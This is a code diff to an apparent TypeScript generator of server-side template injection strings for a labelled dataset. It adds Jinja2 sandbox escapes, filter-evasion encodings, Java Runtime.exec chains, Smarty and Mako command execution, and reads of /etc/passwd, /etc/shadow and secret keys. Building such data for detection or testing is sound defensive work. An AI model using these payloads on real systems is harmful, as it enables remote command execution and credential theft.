@@ -1,4 +1,19 @@
-import { altered, digits, family, integer, letters, maybe, mostly, oneOf, text, words } from '../template.ts';
+import {
+  altered,
+  digits,
+  family,
+  integer,
+  letters,
+  maybe,
+  mostly,
+  oneOf,
+  repeat,
+  same,
+  text,
+  words,
+  type Part,
+  type Write
+} from '../template.ts';
 import { attackerHost, LOWER, lowerWord } from '../vocabulary/shared.ts';
 import { command, simpleCommand } from '../vocabulary/systems.ts';
 
@@ -26,31 +41,75 @@ const value = mostly(
 const run = oneOf(simpleCommand, command);
 const quote = oneOf("'", '"');
 const subclass = integer(10, 500);
-const pythonWay = oneOf(
-  text`''.__class__.__mro__[${integer(1, 2)}].__subclasses__()${maybe(text`[${subclass}]${maybe(text`('${run}',shell=True,stdout=-1).communicate()`)}`)}`,
-  text`''.__class__.__base__.__subclasses__()`,
-  text`().__class__.__bases__[0].__subclasses__()[${subclass}].__init__.__globals__['__builtins__']['eval']("__import__('os').popen('${run}').read()")`,
-  text`config.__class__.__init__.__globals__['os'].popen('${run}').read()`,
-  text`self._TemplateReference__context.${words('cycler joiner namespace')}.__init__.__globals__.os.popen('${run}').read()`,
-  text`${words('cycler joiner namespace lipsum url_for get_flashed_messages request')}.${words('__init__.__globals__.os __globals__.os __globals__')}${oneOf(text`.popen('${run}').read()`, text`["os"].popen("${run}").read()`, '')}`,
-  text`request.application.__globals__.__builtins__.__import__('os').popen('${run}').read()`,
-  text`request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')`,
-  text`request|attr(${oneOf("'__class__'", '["_"*2,"class","_"*2]|join', 'request.args.c', "'\\x5f\\x5fclass\\x5f\\x5f'")})`,
-  text`[].__class__.__base__.__subclasses__()[${subclass}]`,
-  text`dict.__base__.__subclasses__()`,
-  text`get_flashed_messages.__globals__['current_app'].config`,
-  text`self.__init__.__globals__.__builtins__.__import__('os').system('${run}')`,
-  text`settings.SECRET_KEY`,
-  'config.items()',
-  'config',
-  'self',
-  'request.environ',
-  'config.SECRET_KEY',
-  "config['SECRET_KEY']",
-  'request.application.__self__._get_data_for_json.__globals__',
-  text`messages.storages.0.signer.key`,
-  'request|pprint',
-  text`lipsum.__globals__.os.popen('${run}').read()`
+const dunder = (names: string): Write => text`__${words(names)}__`;
+/** From any object of the page up to the classes Python knows, by attribute, subscript or filter. */
+const anyObject = mostly(
+  [oneOf("''", '""', '()', '[]', '{}', '1', 'dict', text`'${lowerWord}'`), 4],
+  [
+    words('request config self g session lipsum cycler joiner namespace url_for get_flashed_messages range settings'),
+    4
+  ],
+  [text`${words('request self config')}.${words('application args cookies form session _get_data_for_json')}`, 1],
+  [lowerWord, 0.5]
+);
+const towardsBase = oneOf(
+  text`${dunder('base')}`,
+  text`${dunder('mro')}[${integer(1, 3)}]`,
+  text`${dunder('bases')}[${integer(0, 1)}]`,
+  text`${dunder('base')}.${dunder('base')}`,
+  text`${dunder('mro')}()[-1]`
+);
+const opened = oneOf(
+  text`popen('${run}').read()`,
+  text`system("${run}")`,
+  text`open('/etc/${words('passwd hosts shadow')}').read()`,
+  text`listdir('/')`,
+  text`environ`
+);
+const imported = text`${dunder('import')}(${quote}${words('os subprocess sys')}${quote}).${opened}`;
+const fromGlobals = oneOf(
+  text`['os'].${opened}`,
+  text`.os.${opened}`,
+  text`[${quote}${dunder('builtins')}${quote}]${oneOf(text`['eval'](${quote}${imported}${quote})`, text`.${imported}`, text`['open']('/etc/passwd').read()`)}`,
+  text`.${dunder('builtins')}.${imported}`,
+  text`[${quote}current_app${quote}].config`,
+  ''
+);
+const subclasses = text`.${dunder('class')}.${towardsBase}.${dunder('subclasses')}()`;
+const viaSubclass = text`[${subclass}]${oneOf('', text`('${run}',shell=True,stdout=-1)`, text`.${dunder('init')}.${dunder('globals')}${fromGlobals}`, text`('/${words('etc/passwd tmp/x')}'${maybe(",'w'")}).${words('read() readlines()')}`)}`;
+/** Names no filter shall see: escaped, joined or taken from other parameters. */
+const hiddenName = oneOf(
+  altered(dunder('class mro base globals init builtins getitem'), (name) => `'${name.replaceAll('_', '\\x5f')}'`),
+  text`["_"*2,"${words('class mro globals init')}","_"*2]|join`,
+  text`request.${words('args cookies values headers form')}.${letters(LOWER, 1, 6)}`,
+  text`"__"~"${words('class globals init')}"~"__"`,
+  text`'_'*2+'${words('class base')}'+'_'*2`,
+  text`${quote}${dunder('class globals init mro')}${quote}`
+);
+const pythonWay = mostly(
+  [text`${anyObject}${subclasses}${maybe(viaSubclass)}`, 4],
+  [text`${anyObject}.${maybe(text`${dunder('init')}.`)}${dunder('globals')}${fromGlobals}`, 3],
+  [text`${anyObject}.${dunder('class')}.${dunder('init')}.${dunder('globals')}${fromGlobals}`, 2],
+  [
+    text`self._TemplateReference__context.${words('cycler joiner namespace')}.${dunder('init')}.${dunder('globals')}${fromGlobals}`,
+    1
+  ],
+  [text`${anyObject}${repeat(text`|attr(${hiddenName})`, 1, 4)}${maybe(text`(${hiddenName})`)}`, 2],
+  [text`${anyObject}.${dunder('class dict doc name module')}${maybe(text`.${dunder('name dict bases')}`)}`, 1],
+  [
+    oneOf(
+      'settings.SECRET_KEY',
+      'config.items()',
+      'config',
+      'self',
+      'request.environ',
+      'config.SECRET_KEY',
+      "config['SECRET_KEY']",
+      'messages.storages.0.signer.key',
+      'request|pprint'
+    ),
+    2
+  ]
 );
 const twigWay = oneOf(
   text`_self.env.registerUndefinedFilterCallback(${quote}${words('exec system passthru shell_exec')}${quote})}}{{_self.env.getFilter(${quote}${run}${quote})`,
@@ -70,16 +129,25 @@ const twigWay = oneOf(
   text`source('/etc/passwd')`,
   text`constant('${words('PHP_VERSION DB_PASSWORD SECRET')}')`
 );
+const javaType = (name: Part): Write => text`T(${name})`;
+const runtimeExec = text`${oneOf(javaType('java.lang.Runtime'), text`"".getClass().forName("java.lang.Runtime")`, text`''.class.forName('java.lang.Runtime')`)}.getRuntime().exec(${oneOf(
+  text`"${run}"`,
+  text`'${simpleCommand}'`,
+  text`new String[]{"${words('sh bash cmd')}","-c","${run}"}`,
+  altered(integer(2, 6), (count, rng) => {
+    const letter = (): string => `T(java.lang.Character).toString(${rng.int(97, 122)})`;
+    return letter() + Array.from({ length: Number(count) }, () => `.concat(${letter()})`).join('');
+  })
+)})`;
 const javaRun = oneOf(
-  text`T(java.lang.Runtime).getRuntime().exec("${run}")`,
-  text`T(java.lang.System).getenv()`,
-  text`T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(${oneOf(text`'${simpleCommand}'`, text`T(java.lang.Character).toString(${integer(97, 122)}).concat(T(java.lang.Character).toString(${integer(97, 122)}))`)}).getInputStream())`,
+  runtimeExec,
+  text`${javaType(oneOf('org.apache.commons.io.IOUtils', 'org.springframework.util.StreamUtils'))}.${words('toString copyToString')}(${runtimeExec}.getInputStream())`,
+  text`new java.util.Scanner(${runtimeExec}.getInputStream()).next()`,
+  text`${javaType('java.lang.System')}.${words('getenv() getProperties() exit(0)')}`,
   text`new java.lang.ProcessBuilder({"${words('bash sh cmd')}","-c","${run}"}).start()`,
   text`"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("${run}")`,
-  text`''.class.forName('java.lang.Runtime').getRuntime().exec('${run}')`,
-  text`new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('${run}').getInputStream()).useDelimiter('\\\\A').next()`,
-  text`''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval("java.lang.Runtime.getRuntime().exec('${run}')")`,
-  text`T(${words('java.lang.Thread java.lang.System java.lang.Math')}).${words('sleep currentThread() exit getProperties() random()')}(${integer(1, 9999)})`
+  text`''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval("${lowerWord}")`,
+  text`${javaType(text`java.lang.${words('Thread System Math Character')}`)}.${words('sleep currentThread exit getProperty random toString')}(${integer(1, 9999)})`
 );
 
 export const serverTemplateTemplates = family('other-injection/template', {
@@ -104,7 +172,18 @@ export const serverTemplateTemplates = family('other-injection/template', {
         : `${rng.pick(['a', 'x', '', 'test', '1'])}${written}${rng.int(1, 99)}`
   ),
   'python-object': text`${value}{{${maybe(' ')}${pythonWay}${maybe(text`|${words('safe e string join tojson list')}`, 0.1)}${maybe(' ')}}}`,
-  'python-statement': text`{% ${oneOf(text`for x in ().__class__.__base__.__subclasses__() %}{% if ${quote}warning${quote} in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(${oneOf(text`'${run}'`, 'request.args.input')}).read()}}{%endif%}{%endfor`, text`if ${pythonWay} %}${lowerWord}{% endif`, text`set x=${pythonWay} %}{{x}}{%`, text`with a=request['application'] %}{{a}}{% endwith`, text`print(${pythonWay})`, text`import os %}{{os.system('${run}')}}{%`, text`include '${oneOf('/etc/passwd', '../../etc/passwd')}'`, text`debug`, text`load log %}{% get_admin_log ${integer(1, 99)} as log %}{% for e in log %}{{e}}{% endfor`, text`raw %}{{${product}}}{% endraw`)} %}`,
+  'python-statement': text`{%${maybe('-')} ${oneOf(
+    text`for ${letters(LOWER)} in ${anyObject}${subclasses} %}{% if '${words('warning catch_warnings Popen wrap_close')}' in ${letters(LOWER)}.${dunder('name')} %}{{ ${letters(LOWER)}()._module.${dunder('builtins')}[${quote}${dunder('import')}${quote}]('os').${opened} }}{% endif %}{% endfor`,
+    text`if ${pythonWay} %}${lowerWord}{% endif`,
+    text`set ${letters(LOWER)}=${pythonWay} %}{{${letters(LOWER)}}}{%`,
+    text`with ${letters(LOWER)}=${pythonWay} %}{{${letters(LOWER)}}}{% endwith`,
+    text`print(${pythonWay})`,
+    text`import os %}{{os.${opened}}}{%`,
+    text`include '${oneOf('/etc/passwd', '../../etc/passwd')}'`,
+    'debug',
+    text`load log %}{% get_admin_log ${integer(1, 99)} as log %}{% for e in log %}{{e}}{% endfor`,
+    text`raw %}{{${product}}}{% endraw`
+  )} %}`,
   'python-plain': text`\${${oneOf(text`self.module.${words('cache runtime filters')}.util.os.system("${run}")`, text`self.template.module.runtime.util.os.popen('${run}').read()`, text`__import__('os').popen('${run}').read()`, text`self.attr._NSAttr__parent.module.${words('cache runtime')}.util.os.system("${run}")`, text`open('/etc/passwd').read()`)}}`,
   'mako-tornado': oneOf(
     text`<%${'\n'}import os${'\n'}x=os.popen('${run}').read()${'\n'}%>${'$'}{x}`,
@@ -158,12 +237,21 @@ export const serverTemplateTemplates = family('other-injection/template', {
     text`<%= sleep(${integer(1, 30)}) %>`,
     text`{{"".getClass().forName("java.lang.Thread").sleep(${integer(1000, 30_000)})}}`
   ),
-  'file-read': text`${value}${oneOf(text`{{ get_user_file("/etc/passwd") }}`, text`{{'/etc/passwd'|file_excerpt(1,${integer(1, 50)})}}`, text`{{url_for.__globals__['__builtins__'].open('/etc/passwd').read()}}`, text`\${open("/etc/${words('passwd hosts')}").read()}`, text`<%= File.read("/etc/${words('passwd shadow')}") %>`, text`{{ config.from_pyfile('/${lowerWord}.cfg') }}`, text`{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}`, text`{{ ''.__class__.__mro__[2].__subclasses__()[40]('/tmp/${lowerWord}','w').write('${lowerWord}') }}`)}`,
-  'settings-loop': text`{% for ${oneOf('key, value', 'k,v', 'x')} in ${oneOf('config.iteritems()', 'config.items()', 'self.__dict__', 'request.__class__.mro()', '().__class__.__base__.__subclasses__()', 'settings')} %}${oneOf('<dt>{{ key|e }}</dt><dd>{{ value|e }}</dd>', '{{x}}', '{{k}}={{v}}', '{{ loop.index }}{{x.__name__}}')}{% endfor %}`,
-  'joined-names': text`{{${maybe(' ')}${oneOf('request', 'self', "''", '()', 'config')}|attr(${oneOf(text`["${oneOf('_', '__')}"${maybe('*2')},"${words('class mro globals init')}","${oneOf('_', '__')}"${maybe('*2')}]|join`, text`[request.args.${lowerWord}*2,request.args.${lowerWord},request.args.${lowerWord}*2]|join`, text`request.${words('args cookies headers values')}.${lowerWord}`, text`"%c%cclass%c%c"|format(95,95,95,95)`, text`"__"~"class"~"__"`, text`'\\x5f\\x5fclass\\x5f\\x5f'`)})${maybe(text`|attr("${words('__mro__ __base__ __globals__')}")`)}${maybe(' ')}}}`,
+  'file-read': text`${value}${oneOf(text`{{ ${lowerWord}_file("/etc/passwd") }}`, text`{{'/etc/passwd'|file_excerpt(1,${integer(1, 50)})}}`, text`{{${anyObject}.${dunder('globals')}['${dunder('builtins')}'].open('/etc/passwd').read()}}`, text`\${open("/etc/${words('passwd hosts')}").read()}`, text`<%= File.read("/etc/${words('passwd shadow')}") %>`, text`{{ config.from_pyfile('/${lowerWord}.cfg') }}`, text`{{ ${anyObject}${subclasses}[${subclass}]('/${words('etc/passwd tmp/x')}'${maybe(text`,'w'`)}).${oneOf('read()', text`write('${lowerWord}')`)} }}`)}`,
+  'settings-loop': text`{% for ${same(
+    oneOf('key, value', 'k,v', 'x,y', 'name'),
+    (names) =>
+      text`${names} in ${oneOf('config', 'self', 'settings', 'request', 'app')}.${oneOf('iteritems()', 'items()', '__dict__', 'environ')} %}${repeat(
+        altered(names, (list, rng) => `{{ ${rng.pick(list.split(/, ?/))}${rng.pick(['', '|e', '|safe'])} }}`),
+        1,
+        2,
+        oneOf('=', ': ', '<br>', '</td><td>')
+      )}{% endfor %}`
+  )}`,
+  'joined-names': text`{{${maybe(' ')}${anyObject}${repeat(text`|attr(${hiddenName})`, 1, 3)}${maybe(' ')}}}`,
   'dumped-object': text`${value}{{${maybe(' ')}${oneOf('dump(app)', 'dump()', 'app.request', 'app.user', 'self', '_self', 'config', 'request', 'this', 'app', '$root', '_context', 'settings.SECRET_KEY', 'config.items()', 'request.environ', "config['SECRET_KEY']", 'debug', 'app.session', 'vars', 'env', 'session')}${maybe(oneOf('|join', '|keys', '|safe', '|json_encode', '|e'))}${maybe(' ')}}}`,
   'probe-razor': text`${value}@${oneOf(text`(${product})`, text`(${integer(1, 9)}+${integer(1, 9)})`, text`{${product}}`, text`Html.Raw(${product})`, text`{var x=${product};}`, text`DateTime.Now`, text`(1+${integer(1, 9)})`)}`,
   'smarty-block': text`${value}{${oneOf(text`php}${maybe('echo ')}${oneOf(text`\`${run}\``, text`phpinfo()`, text`system('${run}')`)};{/php`, text`if ${words('phpinfo() system("id")')}}{/if`, text`${words('system exec passthru')}(${quote}${run}${quote})`, '$smarty.version', text`self::getStreamVariable("file:///etc/passwd")`)}}`,
-  'spaced-names': text`{{ ${oneOf('[]', "''", '()', '""')} .__ ${words('class Class')} __.__ ${words('base mro bases')} __.__ subclasses __ () }}`,
+  'spaced-names': text`{{ ${altered(text`${anyObject}${subclasses}`, (written, rng) => written.replaceAll(/__|\./g, (mark) => rng.pick([`${mark} `, ` ${mark}`, mark])))} }}`,
   'assignment-filter': text`{{${lowerWord}|${oneOf("attr('__class__')", "map('system')", "filter('system')", "reduce('system')", 'attr("__init__")|attr("__globals__")', text`join|attr('__mro__')`)}}}`
 });
